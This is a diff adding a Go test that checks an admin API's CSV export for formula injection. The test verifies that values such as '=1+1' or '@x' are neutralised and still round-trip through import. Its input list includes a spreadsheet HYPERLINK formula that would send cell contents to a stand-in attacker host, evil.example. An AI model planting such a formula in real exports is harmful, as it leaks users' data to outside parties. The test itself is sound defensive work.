@@ -2,6 +2,7 @@ package admin_test
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"errors"
 	"fmt"
@@ -9,6 +10,7 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"reflect"
+	"slices"
 	"strings"
 	"sync"
 	"testing"
@@ -298,4 +300,49 @@ func TestSlowStreamsDoNotBlockOthers(t *testing.T) {
 		}
 	}
 	b.send("acme", http.MethodGet, exportPath, "", nil).want(http.StatusOK, nil)
+}
+
+// A spreadsheet evaluates no cell of an export, and its import restores every text. The
+// API takes no control characters, so no text begins with a tab.
+func TestExportsCarryNoFormula(t *testing.T) {
+	b := newFixture(t, false)
+	server := b.serve()
+	texts := []string{"=1+1", "@x", "+1", "-1", "'=1", "a;=1", `=HYPERLINK("http://evil.example?"&A1)`}
+	for _, text := range texts {
+		grant, err := json.Marshal(map[string]any{"userId": text, "sku": text, "extraFields": map[string]string{text: text}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		b.call(http.MethodPost, defaultPath, string(grant)).want(http.StatusCreated, nil)
+	}
+	export := func() string {
+		return b.send("acme", http.MethodGet, exportPath, "", http.Header{"Accept": {"text/csv"}}).want(http.StatusOK, nil).body
+	}
+	users := func(file string) (read []string) {
+		rows, err := csv.NewReader(strings.NewReader(file)).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		column := slices.Index(rows[0], "userId")
+		for _, row := range rows[1:] {
+			read = append(read, row[column])
+			for _, cell := range row {
+				if strings.IndexAny(cell, "=+-@\t\r\n") == 0 {
+					t.Errorf("the cell %q is evaluated", cell)
+				}
+			}
+		}
+		slices.Sort(read)
+		return read
+	}
+	file := export()
+	first := users(file)
+	b.clock = b.clock.Add(time.Second)
+	if again := b.importStream(server, "text/csv", "", file); again.Created != len(texts) || again.Failed != 0 {
+		t.Fatalf("imported again: %+v", again)
+	}
+	want := slices.Sorted(slices.Values(slices.Concat(first, first)))
+	if got := users(export()); !slices.Equal(got, want) {
+		t.Errorf("after the import: %q, want %q", got, want)
+	}
 }
